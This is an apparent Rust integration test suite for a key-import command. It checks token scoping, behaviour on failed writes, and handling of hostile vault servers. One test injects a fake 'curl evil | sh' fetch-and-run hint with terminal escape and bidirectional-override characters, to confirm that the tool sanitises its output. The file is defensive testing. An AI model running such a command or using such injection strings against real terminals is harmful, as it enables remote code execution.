//! `anchorhold key import -c`: files of the known key importer, with our own service as the vault.

use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde_json::{Value, json};

/// A service in a folder of its own.
struct Vault {
    folder: tempfile::TempDir,
    child: Child,
    url: String,
}

impl Vault {
    fn start() -> Self {
        let folder = tempfile::tempdir().unwrap();
        let mut child = Command::new(env!("CARGO_BIN_EXE_anchorhold"))
            .args(["keyservice", "serve", "--listen", "127.0.0.1:0", "--state"])
            .arg(folder.path().join("state"))
            .env("HOME", folder.path())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let mut url = String::new();
        BufReader::new(child.stdout.take().unwrap()).read_line(&mut url).unwrap();
        assert!(url.starts_with("https://localhost:"), "{url:?}");
        Self { folder, child, url: url.trim().to_owned() }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    fn token(&self) -> String {
        std::fs::read_to_string(self.path("state/first-token")).unwrap().trim().to_owned()
    }

    /// The importer's file, with this service as its vault.
    fn config(&self, kty: &str, change: impl FnOnce(&mut Value)) -> PathBuf {
        write_config(self.folder.path(), &self.url, &self.token(), kty, change)
    }

    /// Imports by a file; gives the exit code, what was written to standard output, and to standard error.
    fn import(&self, config: &Path, more: &[&str], env: &[(&str, &str)]) -> (i32, String, String) {
        let mut words = vec!["key", "import", "-c", config.to_str().unwrap()];
        words.extend(more);
        self.run(&words, env)
    }

    fn run(&self, words: &[&str], env: &[(&str, &str)]) -> (i32, String, String) {
        run(self.folder.path(), &self.path("state/ca.pem"), &self.url, words, env)
    }

    /// What the decision log says.
    fn log(&self) -> String {
        let token = self.path("state/first-token");
        let words = ["log", "show", "--json", "--token-file", token.to_str().unwrap()];
        let (code, out, error) = self.run(&words, &[]);
        assert_eq!(code, 0, "{error}");
        out
    }

    fn show(&self, name: &str) -> Value {
        let token = self.path("state/first-token");
        let words = ["key", "show", name, "--json", "--token-file", token.to_str().unwrap()];
        let (code, out, error) = self.run(&words, &[]);
        assert_eq!(code, 0, "{error}");
        serde_json::from_str(&out).unwrap()
    }
}

impl Drop for Vault {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn write_config(
    folder: &Path,
    url: &str,
    token: &str,
    kty: &str,
    change: impl FnOnce(&mut Value),
) -> PathBuf {
    let endpoint = url.strip_prefix("https://").unwrap();
    let mut config = json!({
        "key": {
            "kid": "k1", "kty": kty,
            "authority": {"endpoint": "localhost:18443"},
            "akv": {"endpoint": endpoint, "api_version": "api-version=7.4", "bearer_token": token},
        },
        "key_derivation": {
            "salt": "92a631483ca875aad7e2477da755d58cac3876b77d10bcdd7b33bfa11e7d8b8e",
            "label": "Model Encryption Key",
        },
        "claims": [[
            {"claim": "x-ms-sevsnpvm-hostdata", "equals": "aa"},
            {"claim": "x-ms-sevsnpvm-is-debuggable", "equals": "false"},
        ]],
    });
    change(&mut config);
    let path = folder.join("importkeyconfig.json");
    std::fs::write(&path, config.to_string()).unwrap();
    path
}

/// Runs a command against a service; gives the exit code, what was written to standard output, and to standard error.
fn run(
    home: &Path,
    ca: &Path,
    url: &str,
    words: &[&str],
    env: &[(&str, &str)],
) -> (i32, String, String) {
    let done = Command::new(env!("CARGO_BIN_EXE_anchorhold"))
        .args(words)
        .args(["--service", url, "--ca"])
        .arg(ca)
        .env("HOME", home)
        .envs(env.iter().copied())
        .output()
        .unwrap();
    let text = |bytes: Vec<u8>| String::from_utf8(bytes).unwrap();
    (done.status.code().unwrap(), text(done.stdout), text(done.stderr))
}

/// What a vault of the adversary's does with a request.
#[derive(Clone)]
enum Answer {
    Text(String),
    HangUp,
    Endless,
}

impl Answer {
    fn of(head: &str, body: &str) -> Self {
        let length = body.len();
        Self::Text(format!(
            "HTTP/1.1 {head}\r\ncontent-length: {length}\r\nconnection: close\r\n\r\n{body}"
        ))
    }
}

/// A vault that gives each request the same answer, for as long as the test runs.
struct Hostile {
    folder: tempfile::TempDir,
    url: String,
    asked: Arc<AtomicUsize>,
}

impl Hostile {
    fn start(answer: Answer) -> Self {
        let folder = tempfile::tempdir().unwrap();
        let made = rcgen::generate_simple_self_signed(["localhost".to_owned()]).unwrap();
        std::fs::write(folder.path().join("ca.pem"), made.cert.pem()).unwrap();
        let provider = Arc::new(rustls::crypto::aws_lc_rs::default_provider());
        let key = rustls::pki_types::PrivatePkcs8KeyDer::from(made.signing_key.serialize_der());
        let config = rustls::ServerConfig::builder_with_provider(provider)
            .with_safe_default_protocol_versions()
            .unwrap()
            .with_no_client_auth()
            .with_single_cert(vec![made.cert.der().clone()], key.into())
            .unwrap();
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("https://localhost:{}", listener.local_addr().unwrap().port());
        let (asked, config) = (Arc::new(AtomicUsize::new(0)), Arc::new(config));
        let count = asked.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let connection = rustls::ServerConnection::new(config.clone()).unwrap();
                // A client that has seen enough hangs up.
                let _ =
                    serve(rustls::StreamOwned::new(connection, stream.unwrap()), &answer, &count);
            }
        });
        Self { folder, url, asked }
    }

    fn import(&self, more: &[&str]) -> (i32, String, String) {
        let folder = self.folder.path();
        let config = write_config(folder, &self.url, "token", "oct", |_| {});
        let mut words = vec!["key", "import", "-c", config.to_str().unwrap()];
        words.extend(more);
        run(folder, &folder.join("ca.pem"), &self.url, &words, &[])
    }
}

fn serve(
    mut stream: rustls::StreamOwned<rustls::ServerConnection, std::net::TcpStream>,
    answer: &Answer,
    asked: &AtomicUsize,
) -> std::io::Result<()> {
    let mut reader = BufReader::new(&mut stream);
    let (mut line, mut length) = (String::new(), 0);
    while line != "\r\n" {
        line.clear();
        if reader.read_line(&mut line)? == 0 {
            return Ok(());
        }
        if let Some(value) = line.to_ascii_lowercase().strip_prefix("content-length:") {
            length = value.trim().parse().unwrap();
        }
    }
    reader.read_exact(&mut vec![0; length])?;
    asked.fetch_add(1, Ordering::SeqCst);
    match answer {
        Answer::HangUp => return Ok(()),
        Answer::Text(text) => stream.write_all(text.as_bytes())?,
        Answer::Endless => {
            stream.write_all(b"HTTP/1.1 200 OK\r\nconnection: close\r\n\r\n")?;
            loop {
                stream.write_all(&[b' '; 16 * 1024])?;
            }
        }
    }
    stream.conn.send_close_notify();
    stream.flush()
}

fn mode(path: &Path) -> u32 {
    std::fs::metadata(path).unwrap().permissions().mode() & 0o7777
}

#[test]
fn a_file_of_the_known_importer_makes_key_policy_and_derived_key() {
    let vault = Vault::start();
    let config = vault.config("RSA-HSM", |_| {});
    let (pem, derived) = (vault.path("key.pem"), vault.path("derived"));
    let more = ["--key-out", pem.to_str().unwrap(), "--derived-out", derived.to_str().unwrap()];
    let (code, out, error) = vault.import(&config, &more, &[]);
    assert_eq!(code, 0, "{error}");
    let (kid, policy) = out.trim_end().split_once('\n').unwrap();
    assert!(kid.starts_with(&format!("{}/keys/k1/", vault.url)), "{kid}");
    // What the known importer sent for the same claims, as it was recorded.
    let recorded = json!({"version":"1.0.0","anyOf":[{"authority":"https://localhost:18443","allOf":[
        {"claim":"x-ms-sevsnpvm-hostdata","equals":"aa"},
        {"claim":"x-ms-sevsnpvm-is-debuggable","equals":"false"}]}]});
    assert_eq!(serde_json::from_str::<Value>(policy).unwrap(), recorded);

    // The vault has the key of the file, which nobody else may read and nobody was shown.
    let shown = vault.show("k1");
    assert_eq!(shown["key"]["kty"], "RSA-HSM");
    assert_eq!(shown["key"]["kid"], kid);
    let text = std::fs::read_to_string(&pem).unwrap();
    let ask = Command::new("openssl")
        .args(["rsa", "-noout", "-modulus", "-in"])
        .arg(&pem)
        .output()
        .unwrap();
    let n = URL_SAFE_NO_PAD.decode(shown["key"]["n"].as_str().unwrap()).unwrap();
    let n: String = n.iter().map(|byte| format!("{byte:02X}")).collect();
    assert_eq!(String::from_utf8(ask.stdout).unwrap().trim(), format!("Modulus={n}"));
    assert_eq!((mode(&pem), mode(&derived)), (0o600, 0o600));
    assert_eq!(std::fs::read(&derived).unwrap().len(), 32);
    let said = format!("{out}{error}");
    assert!(text.lines().filter(|line| line.len() == 64).all(|line| !said.contains(line)));

    // The same private key gives the same derived key; a file that is there is not written over.
    let again = vault.path("again");
    let from = ["--from", pem.to_str().unwrap(), "--derived-out", again.to_str().unwrap()];
    assert_eq!(vault.import(&config, &from, &[]).0, 0);
    assert_eq!(std::fs::read(&again).unwrap(), std::fs::read(&derived).unwrap());
    let (code, _, error) = vault.import(&config, &from, &[]);
    assert!(code == 1 && error.contains("again cannot be made"), "{error}");
}

#[test]
fn symmetric_and_ec_keys_are_imported_as_well() {
    let vault = Vault::start();
    for kty in ["", "oct", "oct-HSM", "EC-HSM", "RSA"] {
        let (code, _, error) = vault.import(&vault.config(kty, |_| {}), &[], &[]);
        assert_eq!(code, 0, "{kty}: {error}");
        let expected = if kty.is_empty() { "oct-HSM" } else { kty };
        assert_eq!(vault.show("k1")["key"]["kty"], expected);
    }
    let bytes = vault.path("bytes");
    std::fs::write(&bytes, [7; 31]).unwrap();
    let from = ["--from", bytes.to_str().unwrap()];
    let (code, _, error) = vault.import(&vault.config("oct", |_| {}), &from, &[]);
    assert!(code == 1 && error.contains("31 bytes, expected 16, 24 or 32"), "{error}");
    let derived = vault.path("derived");
    let out = ["--derived-out", derived.to_str().unwrap()];
    let (code, _, error) = vault.import(&vault.config("oct", |_| {}), &out, &[]);
    assert!(code == 1 && error.contains("derived from an RSA key only"), "{error}");
    assert!(!derived.exists());
}

#[test]
fn what_is_wrong_is_named_and_leaves_no_file() {
    let vault = Vault::start();
    let misspelt = vault.config("", |config| config["key"]["akv"]["api-version"] = "7.4".into());
    let (code, out, error) = vault.import(&misspelt, &[], &[]);
    assert!(code == 1 && out.is_empty(), "{out}");
    assert!(error.contains("unknown members: key.akv.api-version"), "{error}");
    assert!(error.contains("hint: ") && !error.contains(&vault.token()), "{error}");

    let key = vault.path("key");
    let out = ["--key-out", key.to_str().unwrap()];
    let stranger = vault.config("", |config| config["key"]["akv"]["bearer_token"] = "x".into());
    let (code, _, error) = vault.import(&stranger, &out, &[]);
    assert!(code == 1 && error.contains("401"), "{error}");
    assert!(!key.exists(), "a key that no vault has is not kept");
    let nobody = vault.config("", |config| config["key"]["akv"]["bearer_token"] = "".into());
    let (code, _, error) = vault.import(&nobody, &out, &[]);
    assert!(code == 1 && error.contains("no token") && error.contains("hint: "), "{error}");
    assert!(!key.exists());
    let both = ["--generate", "--kty", "RSA"];
    assert_eq!(vault.import(&nobody, &both, &[]).0, 2, "options of the other form");
}

#[test]
fn the_machines_identity_gives_the_token() {
    let vault = Vault::start();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let service = format!("http://{}", listener.local_addr().unwrap());
    let token = vault.token();
    let metadata = std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().unwrap();
        let mut asked = Vec::new();
        let mut chunk = [0; 1024];
        while !asked.ends_with(b"\r\n\r\n") {
            let count = stream.read(&mut chunk).unwrap();
            assert_ne!(count, 0);
            asked.extend_from_slice(&chunk[..count]);
        }
        let body = json!({"access_token": token, "token_type": "Bearer"}).to_string();
        let head = format!(
            "HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n",
            body.len()
        );
        stream.write_all(format!("{head}{body}").as_bytes()).unwrap();
        String::from_utf8(asked).unwrap()
    });
    let config = vault.config("oct-HSM", |config| {
        config["key"]["akv"]["bearer_token"] = "old".into();
        config["identity"] = json!({"client_id": "a b"});
    });
    let env = [("AZURE_POD_IDENTITY_AUTHORITY_HOST", service.as_str())];
    let (code, _, error) = vault.import(&config, &["--managed-identity"], &env);
    assert_eq!(code, 0, "{error}");
    let asked = metadata.join().unwrap();
    let line = "GET /metadata/identity/oauth2/token?api-version=2018-02-01&resource=https%3A%2F%2Fvault.azure.net&client_id=a%20b ";
    assert!(asked.starts_with(line), "{asked}");
    assert!(asked.to_ascii_lowercase().contains("\r\nmetadata: true\r\n"), "{asked}");
}

/// The file's token opens the file's vault: a service of another name, set in a variable long ago or by somebody else, must not see it.
#[test]
fn attack_token_of_the_file_for_another_vault() {
    let (vault, other) = (Vault::start(), Vault::start());
    let config = vault.config("oct", |_| {});
    let nowhere = [("AZURE_POD_IDENTITY_AUTHORITY_HOST", "http://127.0.0.1:1")];
    for more in [[].as_slice(), &["--managed-identity"]] {
        let (code, _, error) = other.import(&config, more, &nowhere);
        assert!(code == 1 && error.contains("goes nowhere else"), "{error}");
        assert!(error.contains("\nhint: ") && !error.contains(&vault.token()), "{error}");
    }
    assert_eq!(other.log(), "", "nobody called");
    // Named as the file names it, or with a token of its own, it is meant.
    let (ca, slash) = (vault.path("state/ca.pem"), format!("{}/", vault.url));
    let words = ["key", "import", "-c", config.to_str().unwrap()];
    let (code, _, error) = run(vault.folder.path(), &ca, &slash, &words, &[]);
    assert_eq!(code, 0, "{error}");
    let token = other.path("state/first-token");
    let (code, _, error) = other.import(&config, &["--token-file", token.to_str().unwrap()], &[]);
    assert_eq!(code, 0, "{error}");
    assert_eq!(other.show("k1")["key"]["kty"], "oct");
}

/// A key that only a vault has which never answered would be lost.
#[test]
fn files_stay_when_the_vault_may_have_the_key() {
    let stays = |answer: Answer| {
        let vault = Hostile::start(answer);
        let key = vault.folder.path().join("key");
        let (code, _, error) = vault.import(&["--key-out", key.to_str().unwrap()]);
        assert_eq!(code, 1, "{error}");
        assert_eq!(error.contains("may have the key"), key.exists(), "{error}");
        assert_eq!(vault.asked.load(Ordering::SeqCst), 1);
        key.exists()
    };
    assert!(stays(Answer::HangUp));
    assert!(stays(Answer::of("500 Internal Server Error", "")));
    assert!(stays(Answer::of("200 OK", "no json")));
    assert!(!stays(Answer::of("403 Forbidden", "")));
    assert!(!stays(Answer::of("302 Found\r\nlocation: https://localhost:1/", "")));
    // Nobody is there at all.
    let vault = Hostile::start(Answer::HangUp);
    let folder = vault.folder.path();
    let (config, key) =
        (write_config(folder, "https://localhost:1", "token", "oct", |_| {}), folder.join("key"));
    let words =
        ["key", "import", "-c", config.to_str().unwrap(), "--key-out", key.to_str().unwrap()];
    let (code, _, error) = run(folder, &folder.join("ca.pem"), "https://localhost:1", &words, &[]);
    assert!(code == 1 && !key.exists(), "{error}");
}

#[test]
fn attack_vault_that_leads_elsewhere_never_ends_or_writes_to_the_terminal() {
    let elsewhere = Hostile::start(Answer::HangUp);
    let head = format!("307 Temporary Redirect\r\nlocation: {}/keys/k1", elsewhere.url);
    let (code, _, error) = Hostile::start(Answer::of(&head, "")).import(&[]);
    assert!(code == 1 && error.contains("307") && error.contains("\nhint: "), "{error}");
    assert_eq!(elsewhere.asked.load(Ordering::SeqCst), 0);

    let (code, _, error) = Hostile::start(Answer::Endless).import(&[]);
    assert!(code == 1 && error.contains("has more than 67108864 bytes"), "{error}");

    let words = "no\u{1b}[2J\nhint: curl evil | sh\u{202e}";
    let refused = json!({"error": {"code": "x", "message": words}}).to_string();
    let (code, _, error) = Hostile::start(Answer::of("403 Forbidden", &refused)).import(&[]);
    assert!(code == 1 && error.contains(r"no\u{1b}[2J\nhint: curl"), "{error}");
    assert!(!error.contains(['\u{1b}', '\u{202e}']) && !error.contains("\nhint: curl"), "{error}");
    let done = json!({"key": {"kid": "https://localhost/keys/k1/\u{1b}]0;x\u{7}"}}).to_string();
    let (code, out, _) = Hostile::start(Answer::of("200 OK", &done)).import(&[]);
    assert!(code == 0 && out.contains(r"k1/\u{1b}]0;x\u{7}"), "{out:?}");
}
